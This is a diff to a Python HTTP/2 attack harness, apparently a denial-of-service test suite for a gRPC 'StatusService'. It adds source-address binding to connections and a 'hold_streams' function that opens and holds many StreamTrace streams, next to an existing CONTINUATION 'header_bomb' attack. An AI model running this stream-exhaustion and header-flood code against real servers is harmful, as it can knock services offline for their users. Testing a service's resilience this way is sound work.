@@ -12,7 +12,7 @@ import time
 from collections.abc import Callable
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
 END_STREAM, END_HEADERS = 1, 4
 CANCEL = (8).to_bytes(4, "big")
 #: How long a send may block before the attacker gives up, in seconds.
@@ -56,9 +56,9 @@ def request_block(path: bytes = b"/tracestatus.v1.StatusService/Update") -> byte
 class Peer:
     """A connection whose answers are read and thrown away by a thread of its own."""
 
-    def __init__(self, address: str) -> None:
+    def __init__(self, address: str, source: str = "127.0.0.1") -> None:
         host, _, port = address.rpartition(":")
-        self.socket = socket.create_connection((host, int(port)), timeout=SEND_SECONDS)
+        self.socket = socket.create_connection((host, int(port)), timeout=SEND_SECONDS, source_address=(source, 0))
         self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
         self.next_stream = 1
         threading.Thread(target=self._drain, daemon=True).start()
@@ -121,6 +121,17 @@ def header_bomb(address: str, *, connections: int, seconds: float, references: i
         return int(peer.send(frames))
 
     return _together(address, connections, seconds, attack)
+
+
+def hold_streams(address: str, source: str, count: int, request: bytes) -> Peer:
+    """Open so many StreamTrace calls from an address, and return the connection that holds them."""
+    peer = Peer(address, source)
+    block = request_block(b"/tracestatus.v1.StatusService/StreamTrace")
+    message = b"\0" + len(request).to_bytes(4, "big") + request
+    for _ in range(count):
+        stream = peer.stream()
+        assert peer.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message))
+    return peer
 
 
 def _together(address: str, connections: int, seconds: float, attack: Callable[[Peer], int]) -> int:
